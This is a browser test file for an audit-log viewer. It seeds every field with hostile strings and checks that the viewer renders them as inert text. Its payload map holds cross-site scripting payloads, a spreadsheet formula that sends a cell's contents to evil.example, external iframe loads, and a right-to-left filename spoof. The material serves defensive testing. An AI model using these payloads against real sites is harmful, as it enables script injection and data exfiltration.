import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createId } from '@deedlog/core';
import type { Activity, FindingItem } from '@deedlog/core';
import { hasChromium, launch, openPage } from './support/browser.ts';
import { serveLog } from './support/clinic.ts';
import type { ServedLog } from './support/clinic.ts';
import { activityAt } from './support/records.ts';

const RIGHT_TO_LEFT = '\u202Egnp.exe';

/** What a hostile client could have had recorded. Each sets `hacked` if it ever runs. */
const HOSTILE: Readonly<Record<string, string>> = {
  script: '<script>window.hacked=1</script>',
  image: '<img src=x onerror="window.hacked=1">',
  svg: '"><svg onload=window.hacked=1>',
  breakOut: "'\"></title></style></textarea></script><script>window.hacked=1</script>",
  scheme: 'javascript:window.hacked=1',
  data: 'data:text/html,<script>parent.hacked=1</script>',
  template: '{{constructor.constructor("window.hacked=1")()}} ${window.hacked=1} <%= window.hacked=1 %>',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  foreign: '<link rel=stylesheet href=http://evil.example/a.css><iframe src=http://evil.example></iframe>',
  rightToLeft: RIGHT_TO_LEFT,
  zeroWidth: 'pay\u200Bpal \uFEFFadmin \u0007\u001b[31m',
  lone: '\uD800 lone',
  proto: '__proto__',
  long: `start ${'m'.repeat(1_000_000)} end`,
};

function hostileActivity(text: string, minute: number): Activity {
  const short = text.length > 400 ? text.slice(0, 400) : text;
  return activityAt(minute, {
    action: short, actorId: short, actorLabel: short, targetType: short, targetId: short, targetLabel: short, outcomeCode: short, outcome: 'failure',
    onBehalfOf: { kind: 'user', id: short, label: short, via: short, onBehalfOf: null }, related: [{ role: short, type: short, id: short, label: short }],
    tool: short, message: text, messageValues: {}, reason: text, changes: { [short]: { old: text, new: `${text}!` } }, input: { [short]: text }, metadata: { [short]: { [short]: [text] } },
    context: { ip: short, userAgent: text, method: short, path: short, requestId: short }, source: short, tenant: short, correlationId: short, causationId: createId(),
  });
}

const findings: readonly FindingItem[] = Object.values(HOSTILE).map((text) => ({
  kind: text, table: text, key: text, field: text, at: text.slice(0, 100), databaseUser: text, transaction: text, activityId: text.slice(0, 100), detail: text,
}));

describe.skipIf(!hasChromium)('hostile content in every field', () => {
  let browser: Browser;
  let log: ServedLog;
  // PostgreSQL keeps no lone surrogate and no null: those come through findings, which nothing has stored.
  const stored = Object.entries(HOSTILE).filter(([name]) => name !== 'lone').map(([, text], index) => hostileActivity(text, index));
  beforeAll(async () => {
    log = await serveLog({ ordinary: 0, records: { activities: stored, effects: stored.map(({ id, occurredAt, message }) => ({ table: 'public.x', op: 'U', key: '1', activityId: id, at: occurredAt, changes: { [String(message).slice(0, 100)]: [message, `${message}?`] } })) }, findings });
    browser = await launch();
  });
  afterAll(async () => {
    await browser?.close();
    await log?.[Symbol.asyncDispose]();
  });

  test('is shown as text in the list and in the open activity: nothing runs, nothing is fetched, nothing is refused', { timeout: 120_000 }, async () => {
    const { page, wrongs } = await openPage(browser, log.origin);
    await page.goto(`${log.origin}/audit/`);
    await expect.poll(() => page.locator('.rows .row').count()).toBe(stored.length);
    for (const { id } of stored) {
      await page.goto(`${log.origin}/audit/?open=${id}`);
      await page.getByRole('complementary').locator('.effects').waitFor();
      expect(await page.evaluate('[window.hacked, ({}).polluted, document.querySelectorAll("iframe, img, object, script").length]')).toEqual([undefined, undefined, 1]);
    }
    const panel = page.getByRole('complementary');
    await page.goto(`${log.origin}/audit/?open=${stored[0]?.id ?? ''}`);
    await expect.poll(() => panel.locator('.message').innerText()).toBe(HOSTILE['script']);
    expect(wrongs).toEqual([]);
  });

  test.each(['timeline', 'findings'])('runs nothing in the %s', { timeout: 60_000 }, async (view) => {
    const { page, wrongs } = await openPage(browser, log.origin);
    await page.goto(`${log.origin}/audit/?view=${view}`);
    await page.locator('.entry, .findings li').nth(Object.keys(HOSTILE).length - 2).waitFor({ state: 'attached' });
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    expect(wrongs).toEqual([]);
  });

  test('links go to our own page only, and lead on', { timeout: 60_000 }, async () => {
    const { page, wrongs } = await openPage(browser, log.origin);
    await page.goto(`${log.origin}/audit/`);
    await page.locator('.rows .row').first().waitFor();
    const links = (await page.evaluate('[...document.links].map((link) => link.href)')) as readonly string[];
    expect(links.length).toBeGreaterThan(stored.length);
    expect(links.filter((link) => !link.startsWith(`${log.origin}/audit/`))).toEqual([]);
    for (const text of [HOSTILE['scheme'] ?? '', HOSTILE['breakOut'] ?? '', HOSTILE['proto'] ?? '']) {
      for (const parts of [{ view: 'object', type: text, id: text }, { view: 'actor', actor: text }]) {
        await page.goto(`${log.origin}/audit/?${new URLSearchParams(parts as Record<string, string>).toString()}`);
        await page.locator('.entry, .rows .row').first().waitFor();
      }
    }
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    expect(wrongs).toEqual([]);
  });

  test('in the address itself is text too', async () => {
    const { page, wrongs } = await openPage(browser, log.origin);
    for (const text of [HOSTILE['script'] ?? '', HOSTILE['breakOut'] ?? '', HOSTILE['template'] ?? '']) {
      const all = Object.fromEntries(['text', 'action', 'cols', 'field', 'tab', 'kind', 'col.x', 'view'].map((name) => [name, text]));
      await page.goto(`${log.origin}/audit/?${new URLSearchParams(all).toString()}`);
      await page.locator('.notice').first().waitFor();
    }
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    expect(wrongs.filter((wrong) => !/status of 400/.test(wrong))).toEqual([]);
  });

  test('cannot turn the direction or hide a character: both are named', async () => {
    const { page } = await openPage(browser, log.origin);
    await page.goto(`${log.origin}/audit/?view=object&type=${encodeURIComponent(RIGHT_TO_LEFT)}&id=${encodeURIComponent(RIGHT_TO_LEFT)}`);
    await page.locator('.entry').first().waitFor();
    await expect.poll(() => page.locator('main h2').innerText()).toBe('U+202Egnp.exe');
    expect(await page.evaluate('document.body.innerText.includes("\\u202e")')).toBe(false);
    const hidden = stored[10]?.id ?? '';
    await page.goto(`${log.origin}/audit/?open=${hidden}`);
    const message = page.getByRole('complementary').locator('.message');
    await expect.poll(() => message.innerText()).toMatch(/pay\s*U\+200B\s*pal/);
    await expect.poll(() => message.locator('bdi').count()).toBe(1);
  });

  test('of a million characters is cut, and can be asked for', async () => {
    const { page } = await openPage(browser, log.origin);
    await page.goto(`${log.origin}/audit/?open=${stored.at(-1)?.id ?? ''}`);
    const message = page.getByRole('complementary').locator('.message');
    await message.waitFor();
    expect((await message.innerText()).length).toBeLessThan(1000);
    await message.getByRole('button', { name: /^Show all 1,000,0\d\d characters/ }).click();
    await expect.poll(async () => (await message.innerText()).length).toBeGreaterThan(90_000);
    await expect.poll(() => message.innerText()).toContain('first 100,000 of');
  });
});
